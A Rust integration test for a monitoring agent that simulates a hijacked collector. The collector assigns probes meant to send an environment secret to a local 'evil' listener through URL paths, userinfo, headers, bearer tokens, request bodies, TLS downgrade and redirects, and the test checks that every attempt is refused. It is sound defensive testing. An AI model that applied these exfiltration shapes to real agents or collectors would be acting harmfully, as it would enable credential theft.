//! A collector in the wrong hands: it owns the assignment, and it wants the agent's secrets. A real
//! agent works for it; whatever it asks, no secret leaves for anywhere but where it always went.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener, TcpStream};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use axum::Router;
use axum::body::Bytes;
use axum::extract::State;
use axum::http::{HeaderMap, StatusCode};
use axum::response::{IntoResponse, Response};
use axum::routing::{get, post};
use base64::Engine as _;
use model::wire::{Assignment, Batch, Receipt};
use serde_json::{Value, json};

use crate::lab::eventually;

const SECRET: &str = "open-sesame-7f3a91";
const LIMIT: Duration = Duration::from_secs(30);

/// Everything that a listener was sent.
#[derive(Clone, Default)]
struct Heard(Arc<Mutex<Vec<u8>>>);

impl Heard {
    /// Whether the secret is in it, plain or in the spellings in which clients send it.
    fn secret(&self) -> bool {
        let heard = String::from_utf8_lossy(&self.0.lock().expect("heard")).into_owned();
        spellings().iter().any(|spelling| heard.contains(spelling))
    }

    fn anything(&self) -> bool {
        !self.0.lock().expect("heard").is_empty()
    }
}

fn spellings() -> Vec<String> {
    let encode = |text: String| base64::engine::general_purpose::STANDARD.encode(text);
    vec![SECRET.into(), encode(format!("watch:{SECRET}")), encode(SECRET.into())]
}

/// Listens, remembers every byte, and gives each connection the same answer.
fn listen(host: &str, answer: String) -> (SocketAddr, Heard) {
    let listener = TcpListener::bind((host, 0)).expect("a port");
    let address = listener.local_addr().expect("an address");
    let heard = Heard::default();
    let kept = heard.clone();
    std::thread::spawn(move || {
        for mut stream in listener.incoming().map_while(Result::ok) {
            let (kept, answer) = (kept.clone(), answer.clone());
            std::thread::spawn(move || hear(&mut stream, &kept, &answer));
        }
    });
    (address, heard)
}

fn hear(stream: &mut TcpStream, kept: &Heard, answer: &str) {
    stream.set_read_timeout(Some(Duration::from_secs(2))).expect("a timeout");
    let mut buffer = [0; 4096];
    let mut answered = false;
    while let Ok(length) = stream.read(&mut buffer) {
        if length == 0 {
            break;
        }
        kept.0.lock().expect("heard").extend_from_slice(&buffer[..length]);
        if !answered {
            answered = true;
            let _ = stream.write_all(answer.as_bytes());
        }
    }
}

/// An honest target behind TLS: remembers what it hears inside. Its authority is in the file.
fn listen_sealed() -> (SocketAddr, Heard, tempfile::NamedTempFile) {
    let _ = rustls::crypto::aws_lc_rs::default_provider().install_default();
    let made = rcgen::generate_simple_self_signed(["127.0.0.1".to_owned()]).expect("a certificate");
    let authority = tempfile::NamedTempFile::new().expect("a file");
    std::fs::write(authority.path(), made.cert.pem()).expect("written");
    let key = rustls::pki_types::PrivateKeyDer::try_from(made.signing_key.serialize_der())
        .expect("a key");
    let config = rustls::ServerConfig::builder()
        .with_no_client_auth()
        .with_single_cert(vec![made.cert.der().clone()], key)
        .expect("a configuration");
    let config = Arc::new(config);
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("an address");
    let heard = Heard::default();
    let kept = heard.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            let connection = rustls::ServerConnection::new(config.clone()).expect("a connection");
            let kept = kept.clone();
            std::thread::spawn(move || {
                let mut stream = rustls::StreamOwned::new(connection, stream);
                let mut buffer = [0; 4096];
                if let Ok(length) = stream.read(&mut buffer) {
                    kept.0.lock().expect("heard").extend_from_slice(&buffer[..length]);
                    let _ = stream.write_all(http("200 OK").as_bytes());
                    stream.conn.send_close_notify();
                    let _ = stream.flush();
                }
            });
        }
    });
    (address, heard, authority)
}

fn http(head: &str) -> String {
    format!("HTTP/1.1 {head}\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
}

#[derive(Clone, Default)]
struct Thief {
    assignment: Arc<Mutex<(String, Option<Assignment>)>>,
    batches: Arc<Mutex<Vec<Batch>>>,
}

async fn assignment(State(thief): State<Thief>, headers: HeaderMap) -> Response {
    let (tag, assignment) = thief.assignment.lock().expect("assignment").clone();
    let quoted = format!("\"{tag}\"");
    match assignment {
        Some(_) if headers.get("if-none-match").is_some_and(|known| known == quoted.as_str()) => {
            StatusCode::NOT_MODIFIED.into_response()
        }
        Some(assignment) => ([("etag", quoted)], axum::Json(assignment)).into_response(),
        None => StatusCode::SERVICE_UNAVAILABLE.into_response(),
    }
}

async fn results(State(thief): State<Thief>, body: Bytes) -> Response {
    let Ok(bytes) = zstd::bulk::decompress(&body, 16 * 1024 * 1024) else {
        return StatusCode::BAD_REQUEST.into_response();
    };
    let batch = Batch::from_protobuf(&bytes).expect("a batch");
    let receipt = Receipt {
        highest_seq: batch.results.last().map_or(0, |result| result.seq),
        now_ms: batch.sent.ms(),
        assignment: thief.assignment.lock().expect("assignment").0.clone(),
        rejected: Vec::new(),
    };
    thief.batches.lock().expect("batches").push(batch);
    axum::Json(receipt).into_response()
}

impl Thief {
    async fn serve(&self) -> SocketAddr {
        let routes = Router::new()
            .route("/v1/assignment", get(assignment))
            .route("/v1/results", post(results))
            .with_state(self.clone());
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("a port");
        let address = listener.local_addr().expect("an address");
        tokio::spawn(async move { axum::serve(listener, routes).await });
        address
    }

    /// Assigns one probe from now on.
    fn assign(&self, name: &str, kind: &Value) {
        let (word, parameters) =
            kind.as_object().and_then(|kind| kind.iter().next()).expect("a kind");
        let assignment = json!({
            "agent": "eu-1", "region": "eu", "anchors": [],
            "probes": [{
                "name": name, "kind": {"word": word, "parameters": parameters},
                "every": 1000, "timeout": 900, "rank": 0, "of": 1,
            }],
        });
        let assignment = serde_json::from_value(assignment).expect("an assignment");
        *self.assignment.lock().expect("assignment") = (name.to_owned(), Some(assignment));
    }

    /// The outcome of the newest result of a probe.
    fn outcome(&self, name: &str) -> Option<String> {
        let batches = self.batches.lock().expect("batches");
        let mut newest_first = batches.iter().rev().flat_map(|batch| batch.results.iter().rev());
        let newest = newest_first.find(|result| result.probe.as_str() == name)?;
        Some(format!("{} {}", newest.outcome.word(), newest.outcome.reason().unwrap_or("-")))
    }
}

struct Agent(Child, tempfile::TempDir);

impl Agent {
    fn start(collector: SocketAddr) -> Self {
        let folder = tempfile::tempdir().expect("a folder");
        let log = std::fs::File::create(folder.path().join("log")).expect("a log");
        let child = Command::new(env!("CARGO_BIN_EXE_watchpost"))
            .args(["-v", "agent", "--region", "eu", "--collector", &format!("http://{collector}")])
            .arg("--data")
            .arg(folder.path().join("data"))
            .env("WATCHPOST_TOKEN", "wpa_test")
            .env("KEY", SECRET)
            .env("SEALED_KEY", SECRET)
            .stdin(Stdio::null())
            .stdout(Stdio::null())
            .stderr(log)
            .spawn()
            .expect("it starts");
        Self(child, folder)
    }

    /// Everything that it wrote to its folder and its log.
    fn written(&self) -> Vec<u8> {
        let mut all = Vec::new();
        let mut folders = vec![self.1.path().to_owned()];
        while let Some(folder) = folders.pop() {
            for entry in std::fs::read_dir(folder).expect("a folder").map_while(Result::ok) {
                if entry.path().is_dir() {
                    folders.push(entry.path());
                } else {
                    all.extend(std::fs::read(entry.path()).unwrap_or_default());
                }
            }
        }
        all
    }
}

impl Drop for Agent {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_stolen_collector_never_gets_a_secret() {
    let thief = Thief::default();
    let (evil, heard) = listen("127.0.0.2", http("200 OK"));
    let (other_port, heard_port) = listen("127.0.0.1", http("200 OK"));
    let away = http(&format!("302 Found\r\nLocation: http://{evil}/gift"));
    let (honest, heard_honest) = listen("127.0.0.1", http("200 OK"));
    let (turning, heard_turning) = listen("127.0.0.1", away);
    let agent = Agent::start(thief.serve().await);
    let auth = json!({"username": "watch", "password": "${env:KEY}"});

    // The secret's honest use comes first and binds it.
    thief.assign(
        "honest",
        &json!({"http": {"url": format!("http://{honest}/"), "basic_auth": auth}}),
    );
    eventually("the honest target gets the secret", LIMIT, || async {
        (heard_honest.secret() && thief.outcome("honest")? == "passed -").then_some(())
    })
    .await;

    let (sealed, heard_sealed, authority) = listen_sealed();
    let auth_sealed = json!({"username": "watch", "password": "${env:SEALED_KEY}"});
    let tls = json!({"ca_file": authority.path()});
    thief.assign("sealed", &json!({"http": {"url": format!("https://{sealed}/"), "basic_auth": auth_sealed, "tls": tls}}));
    eventually("the honest target behind TLS gets its secret", LIMIT, || async {
        (heard_sealed.secret() && thief.outcome("sealed")? == "passed -").then_some(())
    })
    .await;

    let url = |address: SocketAddr| format!("http://{address}/");
    let to_evil = |fields: Value| {
        let mut http = json!({"url": url(evil)});
        http.as_object_mut().unwrap().extend(fields.as_object().unwrap().clone());
        json!({"http": http})
    };
    let shapes = [
        ("other-host", to_evil(json!({"basic_auth": auth}))),
        ("other-port", json!({"http": {"url": url(other_port), "basic_auth": auth}})),
        ("other-kind", json!({"tcp": {"address": honest.to_string(), "send": "${env:KEY}"}})),
        (
            "plain-instead-of-tls",
            json!({"http": {"url": format!("http://{sealed}/"), "basic_auth": auth_sealed}}),
        ),
        (
            "unverified-tls",
            json!({"http": {"url": format!("https://{sealed}/"), "basic_auth": auth_sealed, "tls": {"verify": false}}}),
        ),
        ("in-path", json!({"http": {"url": format!("http://{honest}/${{env:KEY}}")}})),
        ("in-path-of-evil", json!({"http": {"url": format!("http://{evil}/${{env:KEY}}")}})),
        ("as-user", json!({"http": {"url": format!("http://watch:${{env:KEY}}@{evil}/")}})),
        ("in-header", json!({"http": {"url": url(honest), "headers": {"x-key": "${env:KEY}"}}})),
        ("in-authorization", to_evil(json!({"headers": {"authorization": "Bearer ${env:KEY}"}}))),
        ("as-bearer", json!({"http": {"url": url(honest), "bearer_token": "${env:KEY}"}})),
        ("in-body", json!({"http": {"url": url(honest), "method": "POST", "body": "${env:KEY}"}})),
        (
            "connect-to",
            json!({"http": {"url": url(honest), "connect_to": evil.to_string(), "basic_auth": auth}}),
        ),
        ("turning", json!({"http": {"url": url(turning), "basic_auth": auth}})),
    ];
    let heard_lengths =
        || [&heard_honest, &heard_sealed].map(|heard| heard.0.lock().expect("heard").len());
    let mut before = None;
    for (name, kind) in &shapes {
        thief.assign(name, kind);
        eventually(&format!("{name} is refused"), LIMIT, || async {
            (thief.outcome(name)? == "void secret").then_some(())
        })
        .await;
        // From the first refusal on, the honest probes run no more.
        before.get_or_insert_with(heard_lengths);
    }
    assert_eq!(before, Some(heard_lengths()), "nothing more was said to the honest ones");
    for (who, heard) in [("evil", &heard), ("port", &heard_port), ("turning", &heard_turning)] {
        assert!(!heard.secret(), "{who} has the secret");
    }

    // A redirect of the honest target itself leads the run away, and the secret stays behind.
    let (redirecting, heard_redirecting) =
        listen("127.0.0.1", http(&format!("302 Found\r\nLocation: http://{evil}/gift")));
    let second = Agent::start({
        thief.assign("redirect", &json!({"http": {"url": url(redirecting), "basic_auth": auth}}));
        thief.serve().await
    });
    eventually("the run follows the redirect", LIMIT, || async {
        (heard.anything() && thief.outcome("redirect")? == "passed -").then_some(())
    })
    .await;
    assert!(heard_redirecting.secret(), "the bound target itself got it");
    assert!(!heard.secret(), "the redirect carried the secret");

    for agent in [&agent, &second] {
        let written = String::from_utf8_lossy(&agent.written()).into_owned();
        assert!(
            spellings().iter().all(|s| !written.contains(s)),
            "the agent wrote its secret down"
        );
    }
    let told = format!("{:?}", thief.batches.lock().expect("batches"));
    assert!(spellings().iter().all(|s| !told.contains(s)), "a batch has the secret");
    assert!(told.contains("SecretRefused"), "ops were told");
}
